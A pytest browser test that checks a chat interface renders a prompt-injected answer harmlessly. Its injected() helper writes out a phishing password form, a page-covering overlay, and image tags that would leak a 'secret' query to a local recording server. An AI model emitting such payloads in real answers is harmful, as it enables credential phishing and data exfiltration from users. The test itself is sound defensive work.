"""A prompt-injected answer, end to end: real Chromium shows it inert.

The scripted backend echoes the message it gets, so the answer (and the question, and the
conversation's title in the list) carries whatever HTML and Markdown the test sends: a password
form, a block that would cover the page, a Markdown image and an <img> pointing at a local HTTP
server that records every request it gets.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import pytest

from tests.support.processes import free_port
from tests.ui.conftest import Stack, screenshot
from tests.ui.pages import LONG, expect, last_answer, open_app, send

pytestmark = pytest.mark.slow


class _Recorder(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]]

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def leak_server() -> Iterator[tuple[str, list[str]]]:
    """A local server an injected answer would send data to; yields its URL and the paths it got."""
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def injected(host: str) -> str:
    return (
        "Your session expired, log in again:\n\n"
        f'<form action="{host}/form"><input type="password" name="p"><button>Sign in</button></form>\n\n'
        '<div style="position:fixed;inset:0;z-index:9999;background:#fff;font-size:40px">Over</div>\n\n'
        f"![chart]({host}/markdown-image?q=secret)\n\n"
        f'Inline <img src="{host}/img-tag?q=secret"> and <svg><image href="{host}/svg?q=secret"/></svg>\n\n'
        "Still **bold**, `code < tags`, a [link](https://docs.example.com/page) and a list:\n\n"
        "- one\n- two\n\n"
        "```python\nprint('<b>not bold</b>')\n```"
    )


def test_an_injected_answer_is_inert(page: Any, stack: Stack, leak_server: tuple[str, list[str]]) -> None:
    host, seen = leak_server
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    open_app(page, stack)
    send(page, injected(host))
    answer = last_answer(page)
    expect(answer.locator(".cs-timing")).to_be_visible(timeout=LONG)
    expect(answer).to_contain_text("Echo: Your session expired")

    chat = page.locator("#cs-chat")
    for tag in ("form", "input", "img", "svg image", "iframe", "textarea", "[style*='fixed']"):
        expect(chat.locator(f".message {tag}")).to_have_count(0)
    # The HTML shows as the text it is, in the question and in the answer.
    expect(answer).to_contain_text('<input type="password" name="p">')
    expect(chat.locator(".user-row")).to_contain_text("<form action=")
    # Nothing covers the page: the composer and the sidebar are still what is under the pointer.
    for selector in ("#cs-input textarea", "#cs-new-chat"):
        box = page.locator(selector).bounding_box()
        assert box is not None
        hit = page.evaluate(
            "([x, y, css]) => document.querySelector(css).contains(document.elementFromPoint(x, y))",
            [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, selector],
        )
        assert hit, f"{selector} is covered"
    # Images are links the user may follow, not loads; links open safely.
    image_link = answer.locator("a.cs-image-link")
    expect(image_link).to_have_attribute("href", f"{host}/markdown-image?q=secret")
    for link in (image_link, answer.locator("a", has_text="link")):
        expect(link).to_have_attribute("target", "_blank")
        rel = (link.get_attribute("rel") or "").split()
        assert {"noopener", "noreferrer"} <= set(rel)
    # Markdown still formats.
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("li")).to_have_count(2)
    expect(answer.locator("pre code")).to_contain_text("print('<b>not bold</b>')")
    # The title in the conversation list is text too.
    title = page.locator("#cs-conversations label").first
    expect(title).to_contain_text("Your session expired")
    expect(page.locator("#cs-sidebar form, #cs-sidebar img")).to_have_count(0)
    screenshot(page, "30-injected-answer")

    # Reopened from the stored conversation: the same.
    page.reload()
    expect(last_answer(page).locator(".cs-timing")).to_be_visible(timeout=LONG)
    expect(page.locator("#cs-chat .message form, #cs-chat .message img")).to_have_count(0)
    assert seen == []
    assert not [url for url in requested if url.startswith(host)]
